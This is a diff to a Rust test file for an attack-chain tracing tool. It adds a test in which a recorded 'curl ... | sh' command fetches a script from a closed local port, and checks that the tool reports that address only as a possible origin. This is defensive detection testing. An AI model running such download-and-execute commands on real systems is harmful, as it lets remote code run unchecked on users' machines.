@@ -1,6 +1,8 @@
 //! `hunt` tells known chains of attack from their first cause to their extent. All of them are
 //! simulations that touch the test's own files only.
 
+use std::net::TcpListener;
+
 use backstory_testkit::need::needs;
 use serde_json::Value;
 
@@ -89,6 +91,24 @@ fn a_shell_that_follows_a_download_is_told_from_the_address_to_what_it_made() {
     }
     let text = place.run(&["hunt", &runs[0]]).out;
     let cause = format!("  cause    sh  (from {address}, received by bash -c ");
+    assert!(text.contains(&cause), "{text}");
+}
+
+#[test]
+fn an_address_from_which_perhaps_nothing_came_is_only_possibly_the_origin() {
+    if !needs("a download that fails", &["curl"]) {
+        return;
+    }
+    let place = Place::new();
+    // Nobody listens at this port any more.
+    let closed = TcpListener::bind("127.0.0.1:0").unwrap().local_addr();
+    let address = closed.unwrap().to_string();
+    let run = place.record(&format!("curl -s http://{address}/setup.sh | sh"));
+    let finding = only_found(&place, &run, "download-run-by-shell");
+    assert_eq!(finding["cause_origin"], format!("tcp:{address}"));
+    assert_eq!(finding["cause_origin_possible"], true, "{finding}");
+    let text = place.run(&["hunt", &run]).out;
+    let cause = format!("  cause    sh  (possibly from tcp:{address}, received by curl");
     assert!(text.contains(&cause), "{text}");
 }
 
